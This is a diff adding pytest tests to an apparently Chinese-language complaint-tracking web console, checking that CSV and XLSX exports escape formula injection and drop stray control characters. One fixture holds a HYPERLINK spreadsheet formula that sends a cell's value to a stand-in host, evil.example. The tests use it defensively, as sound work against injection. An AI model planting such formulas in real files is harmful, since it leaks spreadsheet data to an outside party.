@@ -225,3 +225,39 @@ def test_figures_count_each_lead_once_per_step_and_average_working_days(app, may
     cal = deadlines.calendar_for(app)
     days = [deadlines.working_days_left(r, a, cal) for r, a in accepted if date(2026, 5, 1) <= a <= date(2026, 5, 31)]
     assert len(days) == 2 and f.avg_days_to_accept == round(sum(days) / len(days), 1)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_exports_keep_text_as_text_and_numbers_as_numbers(app):
+    """CSV injection (OWASP): a cell that would start a formula gets a leading ' and stays text; a control character
+    pasted from Word is dropped instead of breaking the file; amounts and dates keep their type in XLSX."""
+    from decimal import Decimal
+
+    add_staff(app, "boss", "admin")
+    add_lead(app, facts=FORMULA, request="+86 赔偿", amount=Decimal("300.00"), outcome="已退款\x0b\x01全额")
+    admin = Staff(app, "boss")
+    data = {"status": "all", "personal": "1", "reason": "核对"}
+    rows = _csv_rows(admin.post("/console/export", data={**data, "format": "csv"}))
+    header, row = rows[0], rows[1]
+    assert row[header.index("事实与理由")] == "'" + FORMULA and row[header.index("诉求")] == "'+86 赔偿"
+    assert row[header.index("办理结果")] == "已退款全额" and row[header.index("涉及金额（元）")] == "300.00"
+    response = admin.post("/console/export", data={**data, "format": "xlsx"})
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["线索"]
+    header = [c.value for c in sheet[1]]
+    cells = {h: c for h, c in zip(header, sheet[2], strict=True)}
+    assert cells["事实与理由"].data_type == "s" and cells["事实与理由"].value == "'" + FORMULA
+    assert cells["办理结果"].value == "已退款全额"
+    assert cells["涉及金额（元）"].data_type == "n" and cells["涉及金额（元）"].value == 300
+    assert cells["收到日期"].is_date and cells["收到日期"].value.date() == date(2026, 5, 6)
+
+
+def test_a_control_character_in_a_category_does_not_break_the_word_report(app):
+    add_staff(app, "v", "viewer")
+    add_lead(app, received_on=date(2026, 5, 6), category="食品\x01安全")
+    response = Staff(app, "v").get(f"/console/report.docx?{MAY}")
+    assert response.status_code == 200
+    _text, tables = _docx_text(response.data)
+    assert ["食品安全", "1", "0"] in tables
